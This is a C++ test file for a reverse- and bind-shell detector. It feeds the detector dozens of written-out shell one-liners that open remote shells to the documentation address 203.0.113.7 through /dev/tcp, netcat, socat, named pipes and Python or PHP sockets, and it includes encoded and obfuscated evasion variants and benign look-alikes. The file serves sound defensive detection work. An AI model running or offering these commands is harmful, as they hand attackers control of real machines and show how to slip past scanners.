// Reverse and bind shells in shell text: each mechanism in the spellings that are seen, what looks
// like one, and how one hides it.
#include <gtest/gtest.h>


#include "detect/detector_test_support.h"

namespace lazaret::detect {

extern const Detector reverse_shell_detector;

namespace {

std::string script(std::string_view text) {
  return "#!/bin/bash\n" + std::string(text) + "\n";
}

void expect_found(const char* rule, std::initializer_list<const char*> texts,
                  std::string_view peer = {}) {
  for (const char* text : texts) {
    const auto outcome =
        test::inspect(reverse_shell_detector, {.path = "/run.sh", .content = script(text)});
    EXPECT_TRUE(outcome.has(rule)) << text << " gave " << testing::PrintToString(outcome.rules());
    if (!peer.empty()) {
      EXPECT_TRUE(outcome.has_indicator("c2", peer)) << text;
    }
  }
}

void expect_nothing(std::initializer_list<const char*> texts) {
  for (const char* text : texts) {
    const auto outcome =
        test::inspect(reverse_shell_detector, {.path = "/run.sh", .content = script(text)});
    EXPECT_TRUE(outcome.findings.empty())
        << text << " gave " << testing::PrintToString(outcome.rules());
  }
}

TEST(ReverseShellText, NetworkDevicesOfTheShell) {
  expect_found(
      "reverse-shell.dev-tcp",
      {"sh -i >& /dev/udp/203.0.113.7/4444 0>&1",
       "exec 5<>/dev/tcp/203.0.113.7/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
       "exec 5<>/dev/tcp/203.0.113.7/4444; while read line 0<&5; do $line 2>&5 >&5; done",
       "exec 5<>/dev/tcp/203.0.113.7/4444; while read -r l; do eval \"$l\" >&5; done <&5",
       "exec 3<>/dev/tcp/203.0.113.7/4444; cat <&3 | sh",
       "sh -i 5<> /dev/tcp/203.0.113.7/4444 0<&5 1>&5 2>&5",
       "{ id; bash -i; } >& /dev/tcp/203.0.113.7/4444 0>&1",
       "(bash) >& /dev/tcp/203.0.113.7/4444 0>&1",
       "exec 0<>/dev/tcp/203.0.113.7/4444 1>&0 2>&0; sh",
       "exec >& /dev/tcp/203.0.113.7/4444 0>&1; sh", "bash < /dev/tcp/203.0.113.7/4444",
       "cat < /dev/tcp/203.0.113.7/4444 | bash",
       "while read l; do $l; done < /dev/tcp/203.0.113.7/4444",
       "zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.7 4444 && zsh >&$REPLY 2>&$REPLY "
       "0>&$REPLY'"},
      "203.0.113.7:4444");
}

TEST(ReverseShellText, ToolsThatStartAShell) {
  expect_found(
      "reverse-shell.netcat",
      {"nc -c bash 203.0.113.7 4444", "nc 203.0.113.7 4444 -c '/bin/bash -i'",
       "ncat --udp 203.0.113.7 4444 -e /bin/bash", "nc 203.0.113.7 4444 -esh",
       "nc.traditional -e /bin/sh 203.0.113.7 4444", "ncat 203.0.113.7 4444 --sh-exec='exec sh'",
       "nc -e 'busybox sh' 203.0.113.7 4444", "rcat connect -s bash 203.0.113.7 4444",
       "socket -qvp 'sh -i' 203.0.113.7 4444", "timeout 9 nc -e sh 203.0.113.7 4444",
       "while :; do nc -e sh 203.0.113.7 4444; sleep 9; done"},
      "203.0.113.7:4444");
  expect_found(
      "reverse-shell.socat",
      {"socat TCP:203.0.113.7:4444 EXEC:/bin/sh", "socat tcp-connect:203.0.113.7:4444 system:bash",
       "socat OPENSSL:203.0.113.7:4444,verify=0 EXEC:'bash -li',pty,stderr",
       "socat udp:203.0.113.7:4444 exec:\\\"sh -i\\\""});
}

TEST(ReverseShellText, LoopsOfPipes) {
  expect_found("reverse-shell.pipe-loop",
               {"mknod /tmp/p p && telnet 203.0.113.7 4444 0</tmp/p | /bin/bash 1>/tmp/p",
                "mkfifo p; nc 203.0.113.7 4444 0<p | sh -i >p 2>&1",
                "nc 203.0.113.7 4444 | sh | nc 203.0.113.7 4445",
                "mkfifo f; (cat f | sh -i 2>&1) | nc 203.0.113.7 4444 > f",
                "mkfifo f; sh -i < f 2>&1 | ncat --ssl 203.0.113.7 4444 > f",
                "curl -Ns telnet://203.0.113.7:4444 </dev/null | sh 2>&1 | curl -Ns "
                "telnet://203.0.113.7:4445"});
  expect_found(
      "reverse-shell.network-commands",
      {"nc 203.0.113.7 4444 | sh", "curl -sN telnet://203.0.113.7:4444 | bash",
       "sh <(nc 203.0.113.7 4444)", "bash < <(ncat 203.0.113.7 4444)",
       "eval \"$(nc 203.0.113.7 4444)\"", "telnet 203.0.113.7 4444 | while read l; do $l; done",
       "openssl s_client -quiet -connect 203.0.113.7:4444 | sh"},
      "203.0.113.7:4444");
}

TEST(ReverseShellText, Listeners) {
  expect_found(
      "bind-shell.listener",
      {"ncat -l 4444 -e sh", "busybox nc -ll -p 4444 -e /bin/sh", "ncat -lk --sh-exec bash 4444",
       "mkfifo f; nc -lvp 4444 < f | sh > f", "nc -lp 4444 | sh", "socat tcp-l:4444,fork exec:sh",
       "busybox telnetd -l /bin/sh -p 4444",
       "python3 -c 'import socket,os,pty;s=socket.socket();s.bind((\"\",4444));s.listen(1);c,a="
       "s.accept();os.dup2(c.fileno(),0);pty.spawn(\"/bin/sh\")'"});
}

TEST(ReverseShellText, ProgramsGivenToInterpreters) {
  expect_found(
      "reverse-shell.interpreter",
      {"python3 -c 'import "
       "socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.7\",4444));os."
       "dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
       "a='import socket,pty,os;s=socket.soc'; b='ket();s.connect((\"203.0.113.7\",4444));os.du'; "
       "c='p2(s.fileno(),0);pty.spawn(\"/bin/sh\")'; python -c \"$a$b$c\"",
       "python3 <<E\nimport socket,os,pty\ns=socket.socket()\ns.connect((\"203.0.113.7\",4444))\n"
       "os.dup2(s.fileno(),0)\npty.spawn(\"/bin/sh\")\nE\n",
       "php -r '$sock=fsockopen(\"203.0.113.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
       "rev <<< ';)\"2&>3 3&> 3&< i- hs/nib/\"(cexe;)4444,\"7.311.0.302\"(nepokcosf=kcos$ php?<' | "
       "php"},
      "203.0.113.7:4444");
}

TEST(ReverseShellText, WhatHidesIt) {
  expect_found(
      "reverse-shell.dev-tcp",
      {"IFS=,; c=bash,-i; $c >& /dev/tcp/203.0.113.7/4444 0>&1",
       "a=(bash -i); \"${a[@]}\" >& /dev/t''cp/203.0.113.7/4444 0>&1",
       "/?\?n/ba?h -i >& /dev/tcp/203.0.113.7/4444 0>&1",
       "printf '\\142ash -i >& /dev/tcp/203.0.113.7/4444 0>&1' | sh",
       "echo '1&>0 4444/7.311.0.302/pct/ved/ &> i- hsab' | rev | bash",
       "echo onfu -v '>& /qri/gpc/203.0.113.7/4444 0>&1' | tr a-z n-za-m | bash",
       "x=hsab; ${x:3:1}${x:2:1}${x:1:1}${x:0:1} -i >& /dev/tcp/203.0.113.7/4444 0>&1",
       "set -- -i bash; $2 $1 >& /dev/tcp/203.0.113.7/4444 0>&1",
       "f() { $1 -i >& /dev/tcp/203.0.113.7/4444 0>&1; }; trap 'bash -i >& "
       "/dev/tcp/203.0.113.7/4444 0>&1' EXIT",
       "bash -c \"$(base64 -d <<< YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy80NDQ0IDA+JjE=)\"",
       "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy80NDQ0IDA+JjE= | openssl base64 -d | sh",
       "cat <<E | sed 's/@//g' | sh\nb@ash -i >& /dev/t@cp/203.0.113.7/4444 0>&1\nE\n",
       "env -S 'bash -c \"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"'",
       "find / -maxdepth 0 -exec bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' \\;",
       "echo 203.0.113.7 | xargs -I{} bash -c 'bash -i >& /dev/tcp/{}/4444 0>&1'",
       "ba\\\nsh -i >& /dev/tcp/203.0.113.7/4444 0>&1",
       "if [ -x /x ]; then\r\n bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\r\nfi\r"});
  expect_found(
      "reverse-shell.netcat",
      {"n${z}c -e /bin/sh 203.0.113.7 4444", "c=$(which nc); $c -e /bin/sh 203.0.113.7 4444",
       "$(command -v ncat || command -v nc) -e /bin/sh 203.0.113.7 4444",
       "/b*/nc -e /bin/sh 203.0.113.7 4444", "{,}nc -e /bin/sh 203.0.113.7 4444",
       "nc$IFS-e$IFS/bin/sh$IFS$'203.0.113.7'${IFS}4444"});
}

TEST(ReverseShellText, InnocentUsesAreLeftAlone) {
  expect_nothing({"timeout 1 bash -c '</dev/tcp/db/5432' && echo up",
                  "while ! bash -c 'echo > /dev/tcp/db/5432'; do sleep 1; done",
                  "exec 3<>/dev/tcp/db/80; echo 'GET /' >&3; cat <&3 | grep -q ok",
                  "exec 3<>/dev/tcp/db/80; cat <&3 > /tmp/answer; sh /opt/run.sh",
                  "nc -zv db 5432 || exit 1",
                  "echo stats | nc localhost 11211 | grep curr",
                  "nc -l 8080 | tee log",
                  "x=$(echo ruok | nc localhost 2181)",
                  "status=$(curl -s telnet://localhost:80)",
                  "openssl s_client -connect host.example:443 </dev/null 2>/dev/null | sed -n p",
                  "openssl s_server -port 443",
                  "mkfifo f; tar c . > f & nc host.example 9 < f",
                  "telnetd -l /bin/login",
                  "socat - UNIX-CONNECT:/run/x.sock",
                  "socat tcp-l:80,fork exec:/opt/cgi",
                  "python3 -c 'import socket; s=socket.socket(); s.connect((\"db\", 5432))'",
                  "exec > /var/log/run.log 2>&1",
                  "exec sh -c 'exec nginx' 0<&1",
                  "bash script.sh < /dev/null",
                  "ncat --version",
                  "nc -h",
                  "rcat --help"});
}

TEST(ReverseShellText, HostileScriptsTakeLittleTime) {
  for (const char* piece :
       {"nc;", "exec 5<>/dev/tcp/a/1;", "nc|", "sh <&5;", "cat <&5|", "python -c x|"}) {
    std::string text = "#!/bin/sh\n";
    while (text.size() < 150'000) text += piece;
    test::inspect(reverse_shell_detector, {.path = "/x.sh", .content = text});
  }
}

}  // namespace
}  // namespace lazaret::detect
